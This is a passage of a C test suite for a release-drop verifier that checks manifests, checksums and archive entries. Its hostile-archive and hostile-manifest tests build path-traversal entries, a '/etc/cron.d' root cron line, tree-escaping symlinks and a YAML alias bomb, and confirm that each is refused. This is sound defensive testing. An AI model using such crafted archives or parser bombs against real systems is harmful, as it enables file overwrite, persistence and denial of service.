		counts(&r, 1, 1, 0);
		problem_is(&r, 0, art_names[i], CRC_EVERIFY, want);
		crc_verify_report_free(&r);
		/* Deep: the size first; bytes after the end of the compressed stream may also make the
		 * decompressor fail (zstd reads them as a frame), which is about the same file. */
		cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		problem_is(&r, 0, art_names[i], CRC_EVERIFY, want);
		for (size_t k = 0; k < r.nproblems; k++)
			problem_starts(&r, k, art_names[i], CRC_EVERIFY, "");
		crc_verify_report_free(&r);
		fixture_free(&f);
	}
}

Test(verify, deleted_files_are_missing)
{
	struct crc_verify_report r;
	struct crc_error err;
	static const struct {
		const char *name, *msg;
	} cases[] = {
		{ART1, "missing (listed in manifest.yaml)"},
		{"flags.txt", "missing (manifest.yaml lists its sha256)"},
		{"SHA256SUMS", "missing (every drop has one, for sha256sum -c)"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct fixture f;
		fixture_init(&f);
		unlink_(f.drop, cases[i].name);
		for (int deep = 0; deep <= 1; deep++) {
			cr_assert_eq(check(&r, f.drop, deep, 0, 4, &err), CRC_EVERIFY, "%s", err.msg);
			counts(&r, 1, 1, 0);
			problem_is(&r, 0, cases[i].name, CRC_EVERIFY, cases[i].msg);
			cr_assert_eq(r.nfiles, 5, "a missing file is still in the report");
			for (size_t k = 0; k < r.nfiles; k++)
				cr_assert_eq(r.files[k].ok, strcmp(r.files[k].name, cases[i].name) != 0);
			crc_verify_report_free(&r);
		}
		fixture_free(&f);
	}
}

Test(verify, extra_files_and_directories_are_refused_unless_allowed)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	fixture_init(&f);
	puts_(f.drop, "notes.txt", "left behind\n");
	mkdir_(f.drop, "sub");
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 2, 2, 0);
	/* In name order, after the files the manifest lists. */
	problem_is(&r, 0, "notes.txt", CRC_EVERIFY, "not listed in manifest.yaml");
	problem_is(&r, 1, "sub", CRC_EVERIFY, "not listed in manifest.yaml");
	cr_assert_eq(r.nfiles, 7);
	file_is(&r, 5, "notes.txt", "extra", 0);
	file_is(&r, 6, "sub", "extra", 0);
	crc_verify_report_free(&r);
	cr_assert_eq(check(&r, f.drop, 1, 1, 1, &err), 0, "%s", err.msg);
	counts(&r, 0, 0, 0);
	cr_assert_eq(r.nfiles, 7);
	file_is(&r, 5, "notes.txt", "extra", 1);
	file_is(&r, 6, "sub", "extra", 1);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

Test(verify, artifact_replaced_by_a_symlink_directory_or_fifo_is_not_a_regular_file, .timeout = 30)
{
	struct crc_verify_report r;
	struct crc_error err;
	static const char *const kinds[] = {"symlink", "directory", "fifo"};
	for (size_t k = 0; k < 3; k++) {
		struct fixture f;
		char p[512], msg[128];
		fixture_init(&f);
		join(p, sizeof p, f.drop, ART0);
		if (k == 0) {
			/* A valid copy outside the drop: following the link would pass. */
			move(f.drop, ART0, f.other);
			cr_assert_eq(symlink("../other/" ART0, p), 0);
		} else if (k == 1) {
			unlink_(f.drop, ART0);
			cr_assert_eq(mkdir(p, 0755), 0);
		} else {
			unlink_(f.drop, ART0);
			cr_assert_eq(mkfifo(p, 0644), 0);
		}
		snprintf(msg, sizeof msg, "is a %s, not a regular file", kinds[k]);
		for (int deep = 0; deep <= 1; deep++) {
			cr_assert_eq(check(&r, f.drop, deep, 0, 2, &err), CRC_EVERIFY, "%s", err.msg);
			counts(&r, 1, 1, 0);
			problem_is(&r, 0, ART0, CRC_EVERIFY, msg);
			file_is(&r, 2, ART0, "artifact", 0);
			crc_verify_report_free(&r);
		}
		fixture_free(&f);
	}
}

Test(verify, flags_and_sums_replaced_by_a_symlink_or_fifo_are_not_regular_files, .timeout = 30)
{
	struct crc_verify_report r;
	struct crc_error err;
	static const char *const names[] = {"flags.txt", "SHA256SUMS"};
	for (size_t k = 0; k < 2; k++) {
		struct fixture f;
		char p[512];
		fixture_init(&f);
		join(p, sizeof p, f.drop, names[k]);
		move(f.drop, names[k], f.other);
		cr_assert_eq(mkfifo(p, 0644), 0);
		cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		counts(&r, 1, 1, 0);
		problem_is(&r, 0, names[k], CRC_EVERIFY, "is a fifo, not a regular file");
		crc_verify_report_free(&r);
		unlink_(f.drop, names[k]);
		char target[512];
		join(target, sizeof target, f.other, names[k]);
		cr_assert_eq(symlink(target, p), 0);
		cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		counts(&r, 1, 1, 0);
		problem_is(&r, 0, names[k], CRC_EVERIFY, "is a symlink, not a regular file");
		crc_verify_report_free(&r);
		fixture_free(&f);
	}
}

Test(verify, renamed_artifact_is_missing_and_unlisted)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char a[512], b[512];
	fixture_init(&f);
	join(a, sizeof a, f.drop, ART0);
	join(b, sizeof b, f.drop, "noa.tar.zst");
	cr_assert_eq(rename(a, b), 0);
	cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	cr_assert_str_eq(err.msg, "2 problems");
	counts(&r, 2, 2, 0);
	problem_is(&r, 0, ART0, CRC_EVERIFY, "missing (listed in manifest.yaml)");
	problem_is(&r, 1, "noa.tar.zst", CRC_EVERIFY, "not listed in manifest.yaml");
	crc_verify_report_free(&r);
	fixture_free(&f);
}

Test(verify, two_tampered_artifacts_are_two_problems_in_manifest_order)
{
	struct fixture f;
	struct crc_verify_report r, r1;
	struct crc_error err;
	char got[NT][CRC_SHA256_HEX], want[256];
	fixture_init(&f);
	for (size_t i = 0; i < NT; i++) {
		flip(f.drop, art_names[i], 100, 5);
		sha_of(got[i], NULL, f.drop, art_names[i]);
	}
	cr_assert_eq(check(&r1, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	cr_assert_eq(check(&r, f.drop, 0, 0, 4, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 2, 2, 0);
	/* x86_64 first, as in the manifest, though its name sorts after aarch64's. */
	sha_mismatch(want, sizeof want, f.art_sha[0], got[0]);
	problem_is(&r, 0, ART0, CRC_EVERIFY, want);
	sha_mismatch(want, sizeof want, f.art_sha[1], got[1]);
	problem_is(&r, 1, ART1, CRC_EVERIFY, want);
	same_report(&r, &r1);
	crc_verify_report_free(&r);
	crc_verify_report_free(&r1);
	fixture_free(&f);
}

Test(verify, reports_every_problem_not_only_the_first, .timeout = 30)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char got[CRC_SHA256_HEX], want[256], p[512];
	fixture_init(&f);
	flip(f.drop, "flags.txt", 0, 1);
	sha_of(got, NULL, f.drop, "flags.txt");
	unlink_(f.drop, ART0);
	join(p, sizeof p, f.drop, ART1);
	cr_assert_eq(unlink(p), 0);
	cr_assert_eq(mkfifo(p, 0644), 0);
	unlink_(f.drop, "SHA256SUMS");
	puts_(f.drop, "a-stray-file", "x");
	cr_assert_eq(check(&r, f.drop, 1, 0, 4, &err), CRC_EVERIFY, "%s", err.msg);
	cr_assert_str_eq(err.msg, "5 problems");
	counts(&r, 5, 5, 0);
	sha_mismatch(want, sizeof want, f.flags_sha, got);
	problem_is(&r, 0, "flags.txt", CRC_EVERIFY, want);
	problem_is(&r, 1, ART0, CRC_EVERIFY, "missing (listed in manifest.yaml)");
	problem_is(&r, 2, ART1, CRC_EVERIFY, "is a fifo, not a regular file");
	problem_is(&r, 3, "SHA256SUMS", CRC_EVERIFY, "missing (every drop has one, for sha256sum -c)");
	problem_is(&r, 4, "a-stray-file", CRC_EVERIFY, "not listed in manifest.yaml");
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* ---- A manifest re-pinned to tampered archives ---------------------------------------------------- */

/* Rewrites bin/noa of tree i with the same size and another content. */
static void tamper_noa(struct fixture *f, size_t i)
{
	char text[256];
	snprintf(text, sizeof text, "#!/bin/sh\necho 'NOA for %s'\n", triples[i]);
	put(f->tree[i], "bin/noa", text, strlen(text), 0755);
}

Test(verify, repinned_manifest_passes_the_shallow_check)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	fixture_init(&f);
	tamper_noa(&f, 0);
	pack(&f, 0);
	repin(&f);
	/* Everything agrees with a manifest that was rewritten to match: only a signature over manifest.yaml
	 * (checked by the caller, crc/sign.h) can tell this drop from the one that was built. */
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), 0, "%s", err.msg);
	counts(&r, 0, 0, 0);
	crc_verify_report_free(&r);
	/* Deep as well, since the entries were re-pinned too: the archive is valid and says what the
	 * manifest says. */
	cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), 0, "%s", err.msg);
	counts(&r, 0, 0, 0);
	cr_assert_eq(r.files[2].entries, NENTRIES);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

Test(verify, deep_check_catches_an_archive_repinned_at_the_archive_level_only)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char want[512], now[CRC_SHA256_HEX];
	fixture_init(&f);
	size_t k = entry_index(&f, 0, "bin/noa");
	tamper_noa(&f, 0);
	repack_archive_only(&f, 0);
	repin(&f);
	sha_of(now, NULL, f.tree[0], "bin/noa");
	/* The archive's own hash matches: shallow passes (a signature is what would catch this). */
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), 0, "%s", err.msg);
	crc_verify_report_free(&r);
	cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	snprintf(want, sizeof want, "entry 'bin/noa': sha256 mismatch: expected %s got %s",
		 f.artifacts[0].entries[k].sha256, now);
	problem_is(&r, 0, ART0, CRC_EVERIFY, want);
	file_is(&r, 2, ART0, "artifact", 0);
	cr_assert_eq(r.files[2].entries, NENTRIES);
	file_is(&r, 3, ART1, "artifact", 1);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

Test(verify, deep_check_catches_entry_mode_size_type_and_link_changes)
{
	struct crc_verify_report r;
	struct crc_error err;
	char want[256], p[512];
	static const char *const wants[] = {
		"entry 'bin/noa': mode mismatch: expected 0755 got 0644",
		NULL, /* the sizes, below */
		"entry 'lib/libnoa.so': type mismatch: expected symlink got file",
		"entry 'lib/libnoa.so': symlink target mismatch: expected 'libnoa.a' got '../README'",
	};
	for (size_t c = 0; c < 4; c++) {
		struct fixture f;
		fixture_init(&f);
		/* In the gzip archive this time. */
		unsigned long long old = f.artifacts[1].entries[entry_index(&f, 1, "bin/noa")].size;
		join(p, sizeof p, f.tree[1], c < 2 ? "bin/noa" : "lib/libnoa.so");
		if (c == 0)
			cr_assert_eq(chmod(p, 0644), 0);
		else if (c == 1)
			append(f.tree[1], "bin/noa", "# one more line\n");
		else if (c == 2)
			puts_(f.tree[1], "lib/libnoa.so", "not a link\n");
		else {
			cr_assert_eq(unlink(p), 0);
			cr_assert_eq(symlink("../README", p), 0);
		}
		repack_archive_only(&f, 1);
		repin(&f);
		/* A larger entry than any the manifest lists is refused from its header, before its data
		 * is decompressed. */
		if (c == 1)
			snprintf(want, sizeof want,
				 "entry 'bin/noa': %llu bytes, over the cap of %llu (what manifest.yaml "
				 "lists)",
				 old + 16, old);
		else
			snprintf(want, sizeof want, "%s", wants[c]);
		cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), 0, "%s", err.msg);
		crc_verify_report_free(&r);
		cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		counts(&r, 1, 1, 0);
		problem_is(&r, 0, ART1, CRC_EVERIFY, want);
		crc_verify_report_free(&r);
		fixture_free(&f);
	}
}

Test(verify, deep_check_catches_missing_and_unlisted_entries_all_at_once)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char p[512];
	fixture_init(&f);
	unlink_(f.tree[0], "README");
	puts_(f.tree[0], "bin/extra", "#!/bin/sh\n");
	join(p, sizeof p, f.tree[0], "include/noa/noa.h");
	cr_assert_eq(chmod(p, 0755), 0);
	repack_archive_only(&f, 0);
	repin(&f);
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), 0, "%s", err.msg);
	crc_verify_report_free(&r);
	cr_assert_eq(check(&r, f.drop, 1, 0, 4, &err), CRC_EVERIFY, "%s", err.msg);
	cr_assert_str_eq(err.msg, "3 problems");
	counts(&r, 3, 3, 0);
	/* In entry path order. */
	problem_is(&r, 0, ART0, CRC_EVERIFY, "entry 'README' is listed in manifest.yaml but missing");
	problem_is(&r, 1, ART0, CRC_EVERIFY, "entry 'bin/extra' is not listed in manifest.yaml");
	problem_is(&r, 2, ART0, CRC_EVERIFY,
		   "entry 'include/noa/noa.h': mode mismatch: expected 0644 got 0755");
	/* The entries that are in both are counted. */
	cr_assert_eq(r.files[2].entries, NENTRIES - 1);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* ---- SHA256SUMS that disagrees with the manifest -------------------------------------------------- */

Test(verify, sha256sums_disagreeing_with_the_manifest_is_reported_line_by_line)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct crc_buf b;
	char msha[CRC_SHA256_HEX], want[512];
	fixture_init(&f);
	sha_of(msha, NULL, f.drop, "manifest.yaml");
	/* A wrong hash for flags.txt, a name the manifest does not know, and no line for ART0. */
	crc_buf_init(&b);
	crc_buf_printf(&b, "%s  flags.txt\n%s  manifest.yaml\n%s  %s\n%s  other.bin\n", H("0"), msha,
		       f.art_sha[1], ART1, H("1"));
	put(f.drop, "SHA256SUMS", b.data, b.len, 0644);
	crc_buf_free(&b);
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 3, 3, 0);
	snprintf(want, sizeof want,
		 "line 1: sha256 of 'flags.txt' disagrees with manifest.yaml: lists %s, expected %s", H("0"),
		 f.flags_sha);
	problem_is(&r, 0, "SHA256SUMS", CRC_EVERIFY, want);
	problem_is(&r, 1, "SHA256SUMS", CRC_EVERIFY,
		   "line 4: lists 'other.bin', which manifest.yaml does not");
	problem_is(&r, 2, "SHA256SUMS", CRC_EVERIFY, "does not list '" ART0 "'");
	file_is(&r, 4, "SHA256SUMS", "sums", 0);
	/* The files themselves hold. */
	for (size_t k = 0; k < 4; k++)
		cr_assert_eq(r.files[k].ok, 1);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* ---- Hostile archives ----------------------------------------------------------------------------- */

/* One member of a crafted archive: 'f' file (data), 'd' directory, 'l' symlink (to link), 'h' hard link
 * (to link), 'c' character device. */
struct member {
	const char *path;
	char type;
	const char *data_or_link;
};

/* Writes a tar archive of the members with libarchive, compressed with gzip or zstd. */
static void write_members(const char *path, int gzip, const struct member *mb, size_t n)
{
	struct archive *a = archive_write_new();
	struct archive_entry *ae = archive_entry_new();
	cr_assert(a && ae);
	cr_assert_eq(archive_write_set_format_pax_restricted(a), ARCHIVE_OK);
	cr_assert_eq(gzip ? archive_write_add_filter_gzip(a) : archive_write_add_filter_zstd(a), ARCHIVE_OK);
	cr_assert_eq(archive_write_open_filename(a, path), ARCHIVE_OK, "%s", archive_error_string(a));
	for (size_t i = 0; i < n; i++) {
		const char *d = mb[i].data_or_link;
		archive_entry_clear(ae);
		archive_entry_copy_pathname(ae, mb[i].path);
		archive_entry_set_mtime(ae, (time_t)MTIME, 0);
		archive_entry_set_perm(ae, 0644);
		switch (mb[i].type) {
		case 'f':
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_size(ae, (la_int64_t)strlen(d));
			break;
		case 'd':
			archive_entry_set_filetype(ae, AE_IFDIR);
			archive_entry_set_perm(ae, 0755);
			break;
		case 'l':
			archive_entry_set_filetype(ae, AE_IFLNK);
			archive_entry_set_perm(ae, 0777);
			archive_entry_copy_symlink(ae, d);
			break;
		case 'h':
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_copy_hardlink(ae, d);
			break;
		default:
			archive_entry_set_filetype(ae, AE_IFCHR);
			archive_entry_set_rdevmajor(ae, 1);
			archive_entry_set_rdevminor(ae, 3);
			break;
		}
		cr_assert_eq(archive_write_header(a, ae), ARCHIVE_OK, "%s: %s", mb[i].path,
			     archive_error_string(a));
		if (mb[i].type == 'f')
			cr_assert_eq(archive_write_data(a, d, strlen(d)), (la_ssize_t)strlen(d));
	}
	cr_assert_eq(archive_write_close(a), ARCHIVE_OK, "%s", archive_error_string(a));
	archive_entry_free(ae);
	archive_write_free(a);
}

Test(verify, deep_check_refuses_hostile_archives_repinned_at_the_archive_level)
{
	struct crc_verify_report r;
	struct crc_error err;
	/* Each case: the hostile members after a few harmless ones, and the reason the listing gives. */
	static const struct {
		struct member m[2];
		size_t n;
		const char *why;
	} cases[] = {
		{{{"../x", 'f', "escaped\n"}}, 1, "entry '../x': path contains '..'"},
		{{{"/etc/cron.d/noa", 'f', "* * * * * root sh\n"}},
		 1,
		 "entry '/etc/cron.d/noa': absolute path"},
		{{{"share/up", 'l', "../../etc"}},
		 1,
		 "entry 'share/up' -> '../../etc': symlink target leaves the tree"},
		{{{"lnk", 'l', "share"}, {"lnk/x", 'f', "through the link\n"}},
		 2,
		 "entry 'lnk/x' lies below 'lnk', which is a symlink"},
		{{{"dev/null", 'c', NULL}},
		 1,
		 "entry 'dev/null': a character device; only regular files, directories and symlinks are "
		 "allowed"},
		{{{"bin/sh", 'h', "README"}}, 1, "entry 'bin/sh': hard link to 'README' (not allowed)"},
		{{{"README", 'f', "the second README\n"}}, 1, "duplicate entry 'README'"},
	};
	static const struct member base[] = {
		{"README", 'f', "noa\n"},
		{"bin", 'd', NULL},
		{"share", 'd', NULL},
	};
	for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
		struct fixture f;
		struct member all[5];
		char p[512];
		size_t i = c % NT;
		fixture_init(&f);
		memcpy(all, base, sizeof base);
		memcpy(all + 3, cases[c].m, cases[c].n * sizeof *all);
		join(p, sizeof p, f.drop, art_names[i]);
		cr_assert_eq(unlink(p), 0);
		write_members(p, art_formats[i] == CRC_ARCHIVE_TAR_GZ, all, 3 + cases[c].n);
		pin_archive_only(&f, i);
		repin(&f);
		cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), 0, "%s: %s", cases[c].why, err.msg);
		crc_verify_report_free(&r);
		cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s: %s", cases[c].why, err.msg);
		counts(&r, 1, 1, 0);
		problem_is(&r, 0, art_names[i], CRC_EVERIFY, cases[c].why);
		/* The refused archive's hash is still reported (it matches: it was re-pinned). */
		cr_assert_str_eq(r.files[2 + i].sha256, f.art_sha[i]);
		file_is(&r, 2 + i, art_names[i], "artifact", 0);
		crc_verify_report_free(&r);
		fixture_free(&f);
	}
}

/* ---- Hostile and broken manifests ----------------------------------------------------------------- */

/* Checks the drop (shallow and deep) and expects the manifest refused with rc, the one problem about
 * where (file or file:line:col) with msg, and nothing else checked. */
static void manifest_refused(const struct fixture *f, int rc, const char *where, const char *msg)
{
	struct crc_verify_report r;
	struct crc_error err;
	for (int deep = 0; deep <= 1; deep++) {
		cr_assert_eq(check(&r, f->drop, deep, 0, 1, &err), rc, "%s: %s", where, err.msg);
		/* A refused manifest is not a mismatch: it is counted with the files that could not be
		 * read, with the code that says why (CRC_EINVALID: read, and malformed). */
		counts(&r, 1, 0, 1);
		problem_is(&r, 0, where, rc == CRC_EINVALID ? CRC_EINVALID : CRC_EIO, msg);
		cr_assert_str_eq(err.msg, msg);
		cr_assert_null(r.manifest);
		cr_assert_eq(r.nfiles, 1);
		file_is(&r, 0, "manifest.yaml", "manifest", 0);
		crc_verify_report_free(&r);
	}
}

/* Replaces the first occurrence of from in manifest.yaml with to; sets where to manifest.yaml:L:C of the
 * node that holds it (the value starts there, or one before at its quote). */
static void edit_manifest(const struct fixture *f, const char *from, const char *to, char *where, size_t size)
{
	struct crc_buf b, out;
	int line, col;
	slurp(&b, f->drop, "manifest.yaml");
	const char *at = strstr(b.data, from);
	cr_assert_not_null(at, "%s not in the manifest", from);
	size_t off = (size_t)(at - b.data);
	if (off > 0 && (b.data[off - 1] == '"' || b.data[off - 1] == '\''))
		off--;
	position(b.data, off, &line, &col);
	snprintf(where, size, "manifest.yaml:%d:%d", line, col);
	crc_buf_init(&out);
	crc_buf_add(&out, b.data, (size_t)(at - b.data));
	crc_buf_puts(&out, to);
	crc_buf_puts(&out, at + strlen(from));
	cr_assert_eq(crc_buf_error(&out), 0);
	put(f->drop, "manifest.yaml", out.data, out.len, 0644);
	crc_buf_free(&out);
	crc_buf_free(&b);
}

Test(verify, missing_manifest_is_not_found)
{
	struct fixture f;
	char want[256];
	fixture_init(&f);
	unlink_(f.drop, "manifest.yaml");
	snprintf(want, sizeof want, "missing (is %s a drop?)", f.drop);
	manifest_refused(&f, CRC_ENOTFOUND, "manifest.yaml", want);
	fixture_free(&f);
}

Test(verify, empty_manifest_is_invalid)
{
	struct fixture f;
	fixture_init(&f);
	put(f.drop, "manifest.yaml", "", 0, 0644);
	manifest_refused(&f, CRC_EINVALID, "manifest.yaml:1:1", "the file is empty (no YAML document)");
	fixture_free(&f);
}

Test(verify, manifest_with_artifact_path_leaving_the_drop_is_invalid)
{
	struct fixture f;
	char where[64];
	fixture_init(&f);
	edit_manifest(&f, ART0, "../x.tar.zst", where, sizeof where);
	manifest_refused(&f, CRC_EINVALID, where,
			 "artifacts[0].path '../x.tar.zst' must be a file name without '/'");
	fixture_free(&f);
	fixture_init(&f);
	edit_manifest(&f, ART1, "/etc/x.tar.gz", where, sizeof where);
	manifest_refused(&f, CRC_EINVALID, where,
			 "artifacts[1].path '/etc/x.tar.gz' must be a file name without '/'");
	fixture_free(&f);
}

Test(verify, manifest_with_entry_path_holding_dotdot_is_invalid)
{
	struct fixture f;
	char where[64], want[256];
	fixture_init(&f);
	size_t k = entry_index(&f, 0, "include/noa/noa.h");
	edit_manifest(&f, "include/noa/noa.h", "include/../../noa.h", where, sizeof where);
	snprintf(want, sizeof want,
		 "artifacts[0].entries[%zu].path 'include/../../noa.h' must not contain '..'", k);
	manifest_refused(&f, CRC_EINVALID, where, want);
	fixture_free(&f);
}

Test(verify, manifest_over_64_mib_is_invalid)
{
	struct fixture f;
	char p[512];
	fixture_init(&f);
	join(p, sizeof p, f.drop, "manifest.yaml");
	/* Sparse: 64 MiB and one byte of zeros. */
	cr_assert_eq(truncate(p, (off_t)CRC_MANIFEST_MAX_BYTES + 1), 0);
	manifest_refused(&f, CRC_EINVALID, "manifest.yaml", "too large: 67108865 bytes (at most 64 MiB)");
	fixture_free(&f);
}

Test(verify, deeply_nested_manifest_is_invalid)
{
	struct fixture f;
	char text[10001];
	fixture_init(&f);
	memset(text, '[', 10000);
	text[10000] = '\0';
	put(f.drop, "manifest.yaml", text, 10000, 0644);
	manifest_refused(&f, CRC_EINVALID, "manifest.yaml:1:33", "nested deeper than 32 levels");
	fixture_free(&f);
}

Test(verify, manifest_with_an_alias_bomb_is_invalid)
{
	struct fixture f;
	static const char bomb[] =
		"a: &a [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n"
		"b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
		"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
		"d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
		"e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n"
		"f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n"
		"g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\n"
		"h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]\n"
		"i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]\n";
	fixture_init(&f);
	put(f.drop, "manifest.yaml", bomb, strlen(bomb), 0644);
	manifest_refused(&f, CRC_EINVALID, "manifest.yaml:1:4", "anchors and aliases are not allowed");
	fixture_free(&f);
}

Test(verify, manifest_of_an_unknown_schema_is_invalid)
{
	struct fixture f;
	char where[64];
	fixture_init(&f);
	edit_manifest(&f, "crc.manifest/v1", "crc.manifest/v9", where, sizeof where);
	manifest_refused(&f, CRC_EINVALID, where,
			 "unsupported manifest schema 'crc.manifest/v9' (this crc reads crc.manifest/v1)");
	fixture_free(&f);
}

Test(verify, manifest_that_is_a_symlink_directory_or_fifo_is_invalid, .timeout = 30)
{
	struct fixture f;
	char p[512];
	fixture_init(&f);
	join(p, sizeof p, f.drop, "manifest.yaml");
	/* A valid manifest elsewhere: following the link would pass. */
	move(f.drop, "manifest.yaml", f.other);
	cr_assert_eq(symlink("../other/manifest.yaml", p), 0);
	manifest_refused(&f, CRC_EINVALID, "manifest.yaml", "is a symlink, not a regular file");
	cr_assert_eq(unlink(p), 0);
	cr_assert_eq(mkdir(p, 0755), 0);
	manifest_refused(&f, CRC_EINVALID, "manifest.yaml", "is a directory, not a regular file");
	cr_assert_eq(rmdir(p), 0);
	cr_assert_eq(mkfifo(p, 0644), 0);
	manifest_refused(&f, CRC_EINVALID, "manifest.yaml", "is a fifo, not a regular file");
	fixture_free(&f);
}

/* ---- The drop directory --------------------------------------------------------------------------- */

Test(verify, missing_drop_directory_is_not_found)
{
	struct crc_verify_report r;
	struct crc_error err;
	char dir[] = "/tmp/crc-verify-gone-XXXXXX", want[256];
	cr_assert_not_null(mkdtemp(dir));
	cr_assert_eq(rmdir(dir), 0);
	cr_assert_eq(check(&r, dir, 0, 0, 1, &err), CRC_ENOTFOUND, "%s", err.msg);
	snprintf(want, sizeof want, "cannot open the drop %s: No such file or directory", dir);
	cr_assert_str_eq(err.msg, want);
	counts(&r, 1, 0, 1);
	problem_is(&r, 0, dir, CRC_EIO, want);
	cr_assert_null(r.manifest);
	cr_assert_eq(r.nfiles, 0);
	crc_verify_report_free(&r);
}

Test(verify, drop_path_that_is_a_file_is_an_error)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char p[512], want[600];
	fixture_init(&f);
	join(p, sizeof p, f.drop, "flags.txt");
	/* A file where the drop's directory should be is bad input, and the message says what to give. */
	cr_assert_eq(check(&r, p, 0, 0, 1, &err), CRC_EINVALID, "%s", err.msg);
	snprintf(want, sizeof want, "not a directory (give the drop's directory, or its manifest.yaml)");
	cr_assert_str_eq(err.msg, want);
	counts(&r, 1, 0, 1);
	problem_is(&r, 0, p, CRC_EINVALID, want);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* ---- The report ----------------------------------------------------------------------------------- */

Test(verify, add_problem_copies_and_counts)
{
	struct crc_verify_report r;
	char file[32] = "manifest.yaml.sig", msg[32] = "bad signature";
	memset(&r, 0, sizeof r);
	cr_assert_eq(crc_verify_add_problem(&r, file, CRC_EVERIFY, msg), 0);
	cr_assert_eq(crc_verify_add_problem(&r, "key.pub", CRC_EIO, "cannot read key.pub"), 0);
	/* The report holds its own copies. */
	file[0] = 'X';
	msg[0] = 'X';
	counts(&r, 2, 1, 1);
	problem_is(&r, 0, "manifest.yaml.sig", CRC_EVERIFY, "bad signature");
	problem_is(&r, 1, "key.pub", CRC_EIO, "cannot read key.pub");
	crc_verify_report_free(&r);
	cr_assert_eq(r.nproblems, 0);
	cr_assert_null(r.problems);
	/* Freeing twice, a zeroed report and NULL are fine. */
	crc_verify_report_free(&r);
	crc_verify_report_free(NULL);
}

Test(verify, problems_over_the_cap_are_counted_as_dropped)
{
	struct crc_verify_report r;
	memset(&r, 0, sizeof r);
	for (size_t i = 0; i < CRC_VERIFY_MAX_PROBLEMS + 5; i++)
		cr_assert_eq(crc_verify_add_problem(&r, "x", i % 2 ? CRC_EIO : CRC_EVERIFY, "m"), 0);
	cr_assert_eq(r.nproblems, CRC_VERIFY_MAX_PROBLEMS);
	cr_assert_eq(r.dropped, 5);
	/* Every problem counts, kept or dropped. */
	cr_assert_eq(r.mismatches + r.unreadable, CRC_VERIFY_MAX_PROBLEMS + 5);
	cr_assert_eq(r.mismatches, (CRC_VERIFY_MAX_PROBLEMS + 6) / 2);
	problem_is(&r, CRC_VERIFY_MAX_PROBLEMS - 1, "x", CRC_EIO, "m");
	crc_verify_report_free(&r);
	cr_assert_eq(r.dropped, 0);
}

/* ---- Limits and hostile names ------------------------------------------------------------------------ */

/* A manifest is read with its own caps (CRC_MANIFEST_MAX_ENTRIES, CRC_MANIFEST_MAX_BYTES), not the YAML
 * reader's defaults for profiles (10000 nodes, 256 KiB): a drop with 1000 entries in one archive, which
 * crc build can write, verifies. */
Test(verify, valid_drop_with_1000_entries_passes)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char name[64];
	fixture_init(&f);
	mkdir_(f.tree[0], "share/many");
	for (int i = 0; i < 1000; i++) {
		snprintf(name, sizeof name, "share/many/f%04d.txt", i);
		puts_(f.tree[0], name, "x\n");
	}
	pack(&f, 0);
	repin(&f);
	cr_assert_eq(check(&r, f.drop, 1, 0, 4, &err), 0, "%s", err.msg);
	counts(&r, 0, 0, 0);
	cr_assert_eq(r.files[2].entries, NENTRIES + 1001);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* An oversized SHA256SUMS (over 1 MiB) is not what crc writes: a verification failure like any malformed
 * SHA256SUMS (not an unreadable file), refused before it is read, and named once. */
Test(verify, oversized_sha256sums_is_a_verification_failure)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char p[512];
	fixture_init(&f);
	join(p, sizeof p, f.drop, "SHA256SUMS");
